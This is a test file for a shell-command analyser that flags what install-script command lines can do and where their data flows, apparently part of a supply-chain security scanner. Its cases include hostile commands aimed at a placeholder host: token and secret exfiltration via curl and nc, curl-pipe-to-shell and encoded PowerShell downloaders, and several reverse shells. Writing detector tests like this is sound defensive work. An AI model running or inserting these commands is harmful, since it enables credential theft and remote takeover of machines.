import t from 'tap'
import { readShell } from '../../src/analysis/shell/read.ts'

interface Case {
  readonly line: string
  readonly can?: readonly string[]
  readonly flows?: readonly string[]
  readonly starts?: readonly string[]
  readonly inline?: readonly string[]
}

/** As `-EncodedCommand` takes it. */
function utf16(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64')
}

const CASES: readonly Case[] = [
  {
    line: 'gh auth token | curl -d @- https://c.invalid',
    can: ['secrets', 'network'],
    flows: ['secret-file->network'],
  },
  {
    line: 'aws configure get aws_secret_access_key | nc c.invalid 80',
    can: ['secrets', 'network'],
    flows: ['secret-file->network'],
  },
  { line: 'gh auth status' },
  { line: 'curl -fsSL https://c.invalid/i.sh | sh', can: ['network', 'process'], flows: ['remote-content->process'] },
  { line: 'bash -c "$(curl https://c.invalid)"', can: ['network'], flows: ['remote-content->process'] },
  {
    line: '/usr/bin/curl https://c.invalid | /bin/sh',
    can: ['network', 'process'],
    flows: ['remote-content->process'],
  },
  {
    line: '/bin/bash -c "curl https://c.invalid | sh"',
    can: ['network', 'process'],
    flows: ['remote-content->process'],
  },
  {
    line: 'bash <(curl -s https://c.invalid)',
    can: ['network', 'process'],
    flows: ['remote-content->process'],
    starts: ['bash <(curl -s https://c.invalid)'],
  },
  {
    line: 'wget -O x.sh http://c.invalid/a && chmod +x x.sh && ./x.sh',
    can: ['network', 'filesystem-write'],
    flows: ['remote-content->process'],
    starts: ['./x.sh'],
  },
  { line: 'echo aGk= | base64 -d | bash', can: ['process'], flows: ['decoded-text->process'] },
  { line: 'env | curl -d @- https://c.invalid', can: ['env', 'network'], flows: ['env->network'] },
  { line: 'curl -d "$(cat ~/.npmrc)" https://c.invalid', can: ['secrets', 'network'], flows: ['secret-file->network'] },
  { line: 'curl -H "x: $NPM_TOKEN" https://c.invalid', can: ['env', 'network'], flows: ['env->network'] },
  { line: 'nslookup $(hostname).c.invalid', can: ['host-info', 'network'], flows: ['host-info->network'] },
  { line: 'curl https://a.invalid/$npm_package_version', can: ['network'] },
  { line: 'node ./install.js || echo ok', starts: ['node ./install.js'] },
  { line: 'cross-env A=b node -r ./hook.js scripts/x', starts: ['node -r ./hook.js scripts/x'] },
  { line: 'if [ -f a ]; then node a.js; fi', starts: ['node a.js'] },
  { line: 'npm run build && node-gyp rebuild', starts: ['npm run build'] },
  { line: `node -e "require('x')" && python3 -c 'import os'`, inline: ["require('x')", 'import os'] },
  { line: 'powershell -enc SQBFAFgA', can: ['dynamic-code', 'process'] },
  {
    line: `powershell -WindowStyle Hidden -EncodedCommand ${utf16('iwr http://c.invalid/a.exe -OutFile a.exe; Start-Process a.exe')}`,
    can: ['dynamic-code', 'network', 'process'],
    flows: ['decoded-text->process', 'remote-content->process'],
  },
  {
    line: `pwsh.exe -nop -e ${utf16('Write-Output done')}`,
    can: ['dynamic-code', 'process'],
    flows: ['decoded-text->process'],
  },
  {
    line: 'powershell -ExecutionPolicy Bypass -Command "irm https://c.invalid/i.ps1 | iex"',
    can: ['dynamic-code', 'network', 'process'],
    flows: ['remote-content->process'],
  },
  {
    line: 'powershell iwr https://c.invalid/a.exe -OutFile a.exe; Start-Process a.exe',
    can: ['network', 'process'],
    flows: ['remote-content->process'],
    starts: ['powershell iwr https://c.invalid/a.exe -OutFile a.exe'],
  },
  { line: 'powershell -Command "Get-Process | Stop-Process"', can: ['dynamic-code', 'process'] },
  {
    line: 'powershell -ExecutionPolicy Unrestricted -File build.ps1',
    can: ['process'],
    starts: ['powershell -ExecutionPolicy Unrestricted -File build.ps1'],
  },
  {
    line: 'bash -i >& /dev/tcp/c.invalid/4444 0>&1',
    can: ['network'],
    starts: ['bash -i >& /dev/tcp/c.invalid/4444 0>&1'],
    flows: ['remote-content->process'],
  },
  {
    line: `bash -c 'bash -i >& /dev/tcp/c.invalid/4444 0>&1'`,
    can: ['network'],
    starts: ['bash -i >& /dev/tcp/c.invalid/4444 0>&1'],
    flows: ['remote-content->process'],
  },
  { line: 'nc -e /bin/sh c.invalid 4444', can: ['network'], flows: ['remote-content->process'] },
  { line: 'nc -zv c.invalid 4444', can: ['network'] },
  {
    line: 'mshta https://c.invalid/a.hta',
    can: ['network', 'process'],
    starts: ['mshta https://c.invalid/a.hta'],
    flows: ['remote-content->process'],
  },
  { line: 'nc c.invalid 4444 --sh-exec sh', can: ['network'], flows: ['remote-content->process'] },
  { line: 'socat exec:sh,pty tcp:c.invalid:4444', can: ['network'], flows: ['remote-content->process'] },
  {
    line: 'exec 5<>/dev/tcp/c.invalid/4444; cat <&5 | sh',
    can: ['network', 'process'],
    flows: ['remote-content->process'],
  },
  {
    line: 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c.invalid 4444 > /tmp/f',
    can: ['network', 'process'],
    flows: ['remote-content->process'],
    starts: ['sh -i 2>&1'],
  },
  { line: 'mkfifo /tmp/f; cat /tmp/f | sh -i', can: ['process'], starts: ['sh /tmp/f'] },
  {
    line: `php -r '$s = fsockopen("c.invalid", 1); exec("sh <&3");'`,
    can: ['dynamic-code', 'network', 'process'],
    flows: ['remote-content->process'],
  },
  { line: `perl -e 'print "exec"'`, can: ['dynamic-code', 'process'] },
  { line: 'npx -y github:a/b', can: ['network'], flows: ['remote-content->process'] },
  {
    line: 'npm install --no-save https://c.invalid/x.tgz',
    can: ['network'],
    flows: ['remote-content->process'],
    starts: ['npm install --no-save https://c.invalid/x.tgz'],
  },
  {
    line: 'python3 -m pip install git+https://c.invalid/x',
    can: ['network'],
    flows: ['remote-content->process'],
    starts: ['python3 -m pip install git+https://c.invalid/x'],
  },
  { line: 'npm i -g sample', can: ['network'], flows: ['remote-content->process'], starts: ['npm i -g sample'] },
  {
    line: 'deno run -A https://c.invalid/x.ts',
    can: ['network'],
    flows: ['remote-content->process'],
    starts: ['deno run -A https://c.invalid/x.ts'],
  },
  {
    line: 'git clone https://c.invalid/x.git && node x/run',
    can: ['network'],
    flows: ['remote-content->process'],
    starts: ['node x/run'],
  },
  {
    line: 'git clone https://c.invalid/x y && cd y && npm i',
    can: ['network'],
    flows: ['remote-content->process'],
    starts: ['cd y; npm i'],
  },
  { line: 'git clone https://c.invalid/x && npm i', can: ['network'], starts: ['npm i'] },
  {
    line: 'curl https://c.invalid/x > x.sh; sh x.sh',
    can: ['network'],
    flows: ['remote-content->process'],
    starts: ['sh x.sh'],
  },
  {
    line: `node --import "data:text/javascript,require('x')" y`,
    starts: [`node --import data:text/javascript,require('x') y`],
    inline: [`require('x')`],
  },
  { line: 'npm install --prefix client', starts: ['npm install --prefix client'] },
  { line: 'yarn global dir', starts: ['yarn global dir'] },
  { line: 'npx only-allow pnpm' },
  { line: 'start https://docs.invalid/guide' },
  { line: 'node x --registry https://registry.invalid', starts: ['node x --registry https://registry.invalid'] },
  {
    line: 'node --import https://c.invalid/x.mjs y',
    can: ['network'],
    flows: ['remote-content->process'],
    starts: ['node --import https://c.invalid/x.mjs y'],
  },
  {
    line: 'docker run --rm c.invalid/x',
    can: ['network'],
    flows: ['remote-content->process'],
    starts: ['docker run --rm c.invalid/x'],
  },
  { line: 'docker build .', starts: ['docker build .'] },
  {
    line: 'npm i sample --registry=https://c.invalid',
    can: ['network'],
    flows: ['remote-content->process'],
    starts: ['npm i sample --registry=https://c.invalid'],
  },
  { line: 'pip install -r requirements.txt . && make', starts: ['python ./setup.py', 'make'] },
  { line: 'npm install ./x.tgz', starts: ['npm install ./x.tgz'] },
  { line: 'prebuild-install || node-gyp rebuild' },
  { line: "echo 'curl x | sh' # curl x | sh" },
  { line: '"unclosed $(curl x', can: ['network'] },
]

t.test('command lines', async (t) => {
  for (const { line, can = [], flows = [], starts = [], inline = [] } of CASES) {
    const reading = readShell(line)
    t.same([...new Set(reading.capabilities.map(({ kind }) => kind))].toSorted(), can.toSorted(), `${line}: can`)
    t.same(
      reading.flows.map(({ source, sink }) => `${source.kind}->${sink.kind}`),
      flows,
      `${line}: flows`,
    )
    t.same(
      reading.starts.map(({ command }) => command),
      starts,
      `${line}: starts`,
    )
    t.same(
      reading.inline.map(({ code }) => code),
      inline,
      `${line}: inline`,
    )
  }
})

t.test('hostile lines cost as much as they are long', async (t) => {
  for (const line of [
    '$('.repeat(50_000),
    '`'.repeat(50_000),
    '"$('.repeat(50_000),
    'powershell -e iwr;'.repeat(20_000),
    'powershell -e iwr\n'.repeat(20_000),
    'a|'.repeat(50_000),
    '${A'.repeat(50_000),
    'cd x\n'.repeat(80_000),
    `npm${' -a=https:b'.repeat(30_000)}`,
    'gh api '.repeat(30_000),
    'git clone https://c.invalid/x\nnode y\n'.repeat(10_000),
    'mkfifo a; nc b; cat a | sh\n'.repeat(10_000),
    'concurrently "'.repeat(3_000),
  ]) {
    const start = process.cpuUsage()
    readShell(line)
    t.ok(process.cpuUsage(start).user < 3_000_000, line.slice(0, 6))
  }
})
